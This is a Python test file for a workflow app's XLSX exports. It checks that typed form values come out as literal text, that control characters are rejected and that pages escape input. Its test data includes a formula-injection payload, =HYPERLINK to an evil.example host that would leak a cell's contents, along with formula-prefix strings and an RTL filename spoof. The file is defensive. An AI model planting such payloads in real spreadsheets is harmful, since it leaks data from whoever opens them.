"""Exports with hostile values (issue 13, items 4 and 6): what people type into the procedures'
forms reaches every XLSX download as literal text — never a formula, never a 500 — and a
control character in any query parameter is a 422 naming the parameter.

Values are stored through the real procedures (clue_disposal's registration form, the annual
assessment's forms, the linkage report's issue call), then every export is opened with
openpyxl: a text cell is a string cell (data type "s") holding exactly the expected text, with
Excel's quote prefix when it starts like a formula; numbers stay numbers.
"""
from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime
from typing import Any

import pytest
from markupsafe import escape
from openpyxl import Workbook, load_workbook

from engine.infra import exports
from engine.linkage import reports
from engine.infra.db import write_intent
from engine.core.runtime import Runtime
from tests.procedures.offers import api  # noqa: F401 - the api fixture with every demo user logged in
from tests.procedures.offers import complete, deploy_and_roundtrip
from tests.web.conftest import Web

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"x")'
# typed value -> (the exported cell's text, whether it carries Excel's quote prefix)
HOSTILE: dict[str, tuple[str, bool]] = {
    FORMULA: (FORMULA, True),
    "+1+2": ("+1+2", True),
    "-2+3": ("-2+3", True),
    "@SUM(1,2)": ("@SUM(1,2)", True),
    "\t=1+1": ("\t=1+1", True),
    "\r=1+1": ("\r=1+1", True),
    "张某\x0b（区队长）": ("张某\ufffd（区队长）", False),
    "李某\x0c\x1f\x08": ("李某\ufffd\ufffd\ufffd", False),
    "\u202egpj.exe 王某": ("\u202egpj.exe 王某", False),
    "赵某😀": ("赵某😀", False),
    "𠮷田 钱某": ("𠮷田 钱某", False),
}
NUL = ("孙某\x00", ("孙某\ufffd", False))  # PostgreSQL text holds no NUL: refused there (422)
PERSON, TITLE = 5, 1  # 0-based columns of the clue register download
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def workbook(r: Any) -> Any:
    assert r.status_code == 200, r.get_json()
    assert r.mimetype == XLSX
    with zipfile.ZipFile(io.BytesIO(r.data)) as z:  # no formula anywhere in any sheet
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    return load_workbook(io.BytesIO(r.data))


def body_rows(ws: Any) -> list[tuple[Any, ...]]:
    """The cells of a register download below its header (row 4)."""
    return [row for row in ws.iter_rows(min_row=5)]


def assert_literal(cell: Any, text: str, quoted: bool) -> None:
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, quoted), (cell.coordinate, repr(cell.value))


def register_clue(api: Any, person: str, user: str = "xinsheng_secretary") -> Any:
    """Start clue_disposal by hand and fill in its registration form (as the clue tests do)."""
    r = api.post("/api/v1/process-definitions/clue_disposal/start", user, json={"variables": {}})
    assert r.status_code == 201, r.get_json()
    iid = r.get_json()["id"]
    [task] = [t for t in api.tasks(user, process_key="clue_disposal") if t["instance_id"] == iid]
    return api.post(f"/api/v1/tasks/{task['id']}/complete", user, json={"data": {
        "clue_origin": "信访举报", "clue_person": person, "clue_facts": person, "clue_reporter": person,
        "received_date": "2027-01-05"}}), iid


def test_clue_register_exports_hostile_text_as_literal_strings(api, app, db_engine):
    deploy_and_roundtrip(api, "clue_disposal.bpmn", ["clue_disposal"])
    hostile, clue_no = dict(HOSTILE), {}
    r, iid = register_clue(api, NUL[0])
    if db_engine.dialect.name == "sqlite":
        assert r.status_code == 200, r.get_json()
        hostile[NUL[0]] = NUL[1]
        clue_no[f"clue-{iid}"] = NUL[0]
    else:
        assert r.status_code == 422 and r.get_json()["error"] == "invalid"
    for typed in HOSTILE:
        r, iid = register_clue(api, typed)
        assert r.status_code == 200, r.get_json()
        clue_no[f"clue-{iid}"] = typed

    # the API keeps what was typed; only the downloads neutralise it
    stored = {c["data"]["clue_no"]: c["data"]["person"] for c in
              api.get("/api/v1/clues", "xinsheng_secretary", query_string={"per_page": 500}).get_json()["items"]}
    assert stored == clue_no

    for user in ("xinsheng_secretary", "group_secretary"):
        wb = workbook(api.get("/api/v1/clues", user, query_string={"format": "xlsx"}))
        rows = {row[0].value: row for row in body_rows(wb.active)}
        assert set(rows) == set(clue_no), user
        for no, typed in clue_no.items():
            text, quoted = hostile[typed]
            assert_literal(rows[no][PERSON], text, quoted)
            assert_literal(rows[no][TITLE], "问题线索：" + text, False)
    # the admin's download works too (what it shows of confidential clues is the redaction rule's business)
    assert workbook(api.get("/api/v1/clues", "admin", query_string={"format": "xlsx"})).active.max_row == 4 + len(clue_no)
    assert workbook(api.get("/api/v1/dashboard/clue-dispositions", "group_secretary",
                            query_string={"year": 2027, "format": "xlsx"})).active["A1"].value

    # the pages render the same values escaped
    web = Web(app.test_client())
    web.login("xinsheng_secretary")
    page = web.get("/registers/clues")
    assert page.status_code == 200 and str(escape(FORMULA)) in page.get_data(as_text=True)
    [formula_no] = [no for no, typed in clue_no.items() if typed == FORMULA]
    clue_id = next(c["id"] for c in api.get("/api/v1/clues", "xinsheng_secretary").get_json()["items"]
                   if c["data"]["clue_no"] == formula_no)
    detail = web.get(f"/registers/clues/{clue_id}")
    assert detail.status_code == 200 and str(escape(FORMULA)) in detail.get_data(as_text=True)


def test_an_unpaired_surrogate_in_a_form_is_422_and_changes_nothing(api):
    """JSON can carry `\\ud800`, which is no character: completing a task with it was a 500."""
    deploy_and_roundtrip(api, "clue_disposal.bpmn", ["clue_disposal"])
    user = "xinsheng_secretary"
    iid = api.post("/api/v1/process-definitions/clue_disposal/start", user, json={"variables": {}}).get_json()["id"]
    [task] = [t for t in api.tasks(user, process_key="clue_disposal") if t["instance_id"] == iid]
    raw = ('{"data": {"clue_origin": "信访举报", "clue_person": "张某\\ud800", "clue_facts": "x", '
           '"received_date": "2027-01-05", "attachments": ["ok", "\\udfff"]}}')
    r = api.post(f"/api/v1/tasks/{task['id']}/complete", user, data=raw, content_type="application/json")
    assert (r.status_code, r.get_json()["details"]) == (
        422, [{"field": "data.clue_person", "code": "invalid", "params": {}, "message": "not valid Unicode text"}])
    assert api.get(f"/api/v1/tasks/{task['id']}", user).get_json()["status"] == "open"
    r = api.post(f"/api/v1/tasks/{task['id']}/complete", user, data=raw.replace("\\ud800", ""),
                 content_type="application/json")
    assert r.get_json()["details"][0]["field"] == "data.attachments[1]"
    assert api.get("/api/v1/clues", user).get_json()["total"] == 0


def test_ledger_and_commendations_keep_numbers_and_neutralise_text(api, sessions, clock, settings, forms):
    """The annual assessment writes the ledger (the group's reason for poor linkage work) and the
    commendation list (a unit's deeds, the group's bulletin number): hostile text in each."""
    deploy_and_roundtrip(api, "annual_assessment.bpmn", ["annual_assessment", "annual_assessment_unit"])
    clock.set("2027-12-20T09:00:00+08:00")
    with write_intent(), sessions() as s:
        Runtime(s, clock, settings, forms).start("annual_assessment", {}, None, start_event="start_timer")
        s.commit()
    open_tasks = lambda user, spec: [t for t in api.tasks(user) if t["spec_id"] == spec]  # noqa: E731
    [notice] = open_tasks("group_secretary", "issue_notice")
    complete(api, notice, {"year": 2027, "requirements": "=1+1", "unit_deadline": "2027-12-31"})
    long_reason = "-" + "问题\x0b" * 1666  # 4,999 characters: the form allows 5,000
    reasons = {"xuchang": (FORMULA, 55), "daizhuang": (long_reason, 72)}
    for unit in ("xinsheng", "xuchang", "daizhuang"):
        [mine] = open_tasks(f"{unit}_secretary", "unit_assess_members")
        ctx = api.get(f"/api/v1/tasks/{mine['id']}", f"{unit}_secretary").get_json()["context"]
        rated = [{"username": p["username"], "rating": "优秀", "comment": "@"} for p in ctx["people"]]
        nominee = {"xinsheng": [{"username": "xinsheng_laogan", "deeds": "@SUM(A1:A9)\x0b"}]}.get(unit, [])
        complete(api, mine, {"assessments": rated, "nominees": nominee, "member_summary": "+"}, f"{unit}_secretary")
    for task in open_tasks("group_secretary", "group_assess_unit"):
        unit = api.get(f"/api/v1/process-instances/{task['instance_id']}", "admin").get_json()["unit_id"]
        reason, score = reasons.get(unit, ("", 95))
        data = {"score": score, "rating": "差" if reason else "好", "linkage_problem": "无落实" if reason else "无",
                "assess_comment": "=2"}
        complete(api, task, {**data, "problem_reason": reason} if reason else data, "group_secretary")
    [review] = open_tasks("group_secretary", "review_nominations")
    complete(api, review, {"approved": ["xinsheng_laogan"], "bulletin_no": "+86〔2027〕\x0b30号",
                           "bulletin_date": "2027-12-30"})

    wb = workbook(api.get("/api/v1/ledger", "group_secretary", query_string={"format": "xlsx", "year": 2027}))
    rows = {row[1].value: row for row in body_rows(wb.active)}  # by unit name
    assert len(rows) == 2
    for unit, (reason, score) in reasons.items():
        [row] = [row for name, row in rows.items() if {"xuchang": "许厂", "daizhuang": "岱庄"}[unit] in name]
        assert (row[0].data_type, row[0].value) == ("n", 2027)  # year
        assert (row[4].data_type, row[4].value) == ("n", score)  # score
        assert_literal(row[3], exports.clean_text(reason), True)
    assert rows[next(n for n in rows if "岱庄" in n)][3].value == "-" + "问题\ufffd" * 1666

    wb = workbook(api.get("/api/v1/commendations", "group_secretary", query_string={"format": "xlsx"}))
    [row] = body_rows(wb.active)
    assert (row[0].data_type, row[0].value) == ("n", 2027)
    assert_literal(row[5], "@SUM(A1:A9)\ufffd", True)  # deeds
    assert_literal(row[6], "+86〔2027〕\ufffd30号", True)  # bulletin no.
    assert row[7].value == "2027-12-30"
    # the commissioner's own list and the unit's
    assert workbook(api.get("/api/v1/commendations", "xinsheng_laogan", query_string={"format": "xlsx"})).active["F5"].value \
        == "@SUM(A1:A9)\ufffd"


def test_linkage_report_with_a_hostile_document_number(api):
    r = api.post("/api/v1/reports/linkage/issue", "group_secretary", json={"period": "2027-Q1", "doc_code": "=1+2\x0b淄矿纪"})
    assert r.status_code == 201 and r.get_json()["doc_no"] == "=1+2\x0b淄矿纪联〔2027〕1号"
    wb = workbook(api.get("/api/v1/reports/linkage", "group_secretary", query_string={"period": "2027-Q1", "format": "xlsx"}))
    assert_literal(wb["联动情况"]["A2"], "=1+2\ufffd淄矿纪联〔2027〕1号", True)
    assert (wb["联动情况"]["B7"].data_type, wb["联动情况"]["B7"].value) == ("n", 0)  # counts stay numbers
    page = api.get("/api/v1/reports/linkage", "group_secretary", query_string={"period": "2027-Q1", "format": "html"})
    assert page.status_code == 200 and "=1+2\x0b淄矿纪联〔2027〕1号" in page.get_data(as_text=True)
    pdf = api.get("/api/v1/reports/linkage", "group_secretary", query_string={"period": "2027-Q1", "format": "pdf"})
    if reports.cjk_font(reports.Settings()) is None:
        assert pdf.status_code == 503
    else:
        assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF-")


def test_control_characters_in_query_parameters_are_422_naming_the_parameter(api, app):
    """Every query parameter of every documented GET operation, and the red team's exports."""
    for path in ("/api/v1/clues", "/api/v1/ledger", "/api/v1/commendations"):
        r = api.get(f"{path}?unit_id=%11&format=xlsx", "group_secretary")
        assert (r.status_code, r.get_json()["details"]) == (
            422, [{"field": "unit_id", "code": "invalid", "params": {},
                   "message": "control characters are not allowed"}]), path
        assert "unit_id" in r.get_json()["message"]
    doc = api.get("/api/v1/openapi.json").get_json()
    checked, wrong = 0, []
    for template, item in doc["paths"].items():
        get = item.get("get")
        if not get:
            continue
        path = re.sub(r"\{[^}]+\}", "1", template)
        for param in get.get("parameters", []):
            if param["in"] != "query":
                continue
            for value in ("%0b", "a%00b", "x%0D%0Ay", "%7F", "%C2%85"):
                r = api.get(f"{path}?{param['name']}={value}", "group_secretary")
                checked += 1
                if r.status_code != 422 or r.get_json()["details"][0]["field"] != param["name"]:
                    wrong.append((template, param["name"], value, r.status_code))
    assert checked > 100 and wrong == []
    r = api.get("/api/v1/tasks?stat%0bus=open", "group_secretary")
    assert (r.status_code, r.get_json()["details"][0]["field"]) == (422, "stat\\x0bus")
    # printable text still works, Chinese included
    assert api.get("/api/v1/clues", "group_secretary", query_string={"status": "已了结"}).status_code == 200
    assert api.get("/api/v1/clues", "group_secretary", query_string={"unit_id": "=1+1", "format": "xlsx"}).status_code == 200

    # the pages answer with their error page, in Chinese
    web = Web(app.test_client())
    web.login("group_secretary")
    for page in ("/registers/clues?unit_id=%0b", "/registers/ledger?year=%00", "/dashboard?unit_id=x%0a", "/tasks?q=%1b"):
        r = web.get(page)
        assert (r.status_code, r.mimetype) == (422, "text/html"), page
        assert "输入有误" in r.get_data(as_text=True), page


def test_put_writes_literal_text_and_keeps_numbers_dates_and_booleans():
    """engine.infra.exports.put alone, for what the forms cannot store: text longer than Excel's cell
    limit, NaN and infinity, dates and booleans, objects."""
    wb = Workbook()
    ws = wb.active
    values = ["=1+1", "x" * 40_000, float("nan"), float("inf"), 3.5, -7, True, date(2027, 1, 5),
              datetime(2027, 1, 5, 9, 30), "\ud800\ufffe\uffff", {"a": 1}, None, "普通文字"]
    for c, v in enumerate(values, start=1):
        exports.put(ws, 1, c, v)
    buf = io.BytesIO()
    wb.save(buf)
    row = next(load_workbook(buf).active.iter_rows(min_row=1, max_row=1))
    got = [(c.data_type, c.value, c.quotePrefix) for c in row]
    assert got[0] == ("s", "=1+1", True)
    assert got[1] == ("s", "x" * 32_766 + "…", False) and len(got[1][1]) == exports.MAX_CELL_CHARS
    assert got[2:4] == [("s", "nan", False), ("s", "inf", False)]
    assert got[4:7] == [("n", 3.5, False), ("n", -7, False), ("b", True, False)]
    assert (got[7][0], got[7][1]) == ("d", datetime(2027, 1, 5)) and got[8][1] == datetime(2027, 1, 5, 9, 30)
    assert got[9] == ("s", "\ufffd\ufffd\ufffd", False)
    assert got[10] == ("s", "{'a': 1}", False)
    assert got[12] == ("s", "普通文字", False)
    assert len(got) == 13 and got[11][1] is None


@pytest.mark.parametrize("text", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_quoted(text):
    ws = Workbook().active
    cell = exports.put(ws, 1, 1, text + "A1")
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text + "A1", True)
